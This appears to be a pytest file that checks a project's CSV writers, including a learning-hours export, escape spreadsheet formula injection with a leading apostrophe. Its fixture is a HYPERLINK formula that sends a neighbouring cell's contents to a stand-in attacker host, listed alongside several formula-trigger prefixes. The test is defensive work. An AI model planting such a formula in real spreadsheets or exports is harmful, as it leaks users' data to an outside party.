"""CSV files Laurel writes are safe to open in a spreadsheet: text that a spreadsheet would run
as a formula (an email address ``=HYPERLINK("https://evil.example/?x="&C2,"Renew@evil.co")``,
which Laurel's email rules accept, in the learning-hours export; a name in a roster) is written
with a leading apostrophe, in every writer (audit round 7)."""

from __future__ import annotations

import csv
import io

import pytest

from issuer.core.spreadsheet import cell, cells, record
from issuer.reports.learners import hours_csv

FORMULA = '=HYPERLINK("https://evil.example/?x="&C2,"Renew@evil.co")'


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1", "＝1"],
)
def test_text_a_spreadsheet_would_run_is_quoted(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("value", ["kim@hrd.example", "Leading People", "", "1=1", 12.5, -3, None])
def test_other_values_are_written_as_they_are(value: object) -> None:
    assert cell(value) == value


def test_rows_and_records() -> None:
    assert cells(["a", FORMULA, 2]) == ["a", f"'{FORMULA}", 2]
    assert record({"email": FORMULA, "hours": 3.0}) == {"email": f"'{FORMULA}", "hours": 3.0}


def test_the_hours_export_quotes_a_formula_email() -> None:
    text = hours_csv(
        [
            {
                "email": FORMULA,
                "year": 2026,
                "hours": 12.0,
                "required": 40.0,
                "met": False,
                "remaining": 28.0,
            }
        ]
    )
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["email"] == f"'{FORMULA}" and row["hours"] == "12.0"
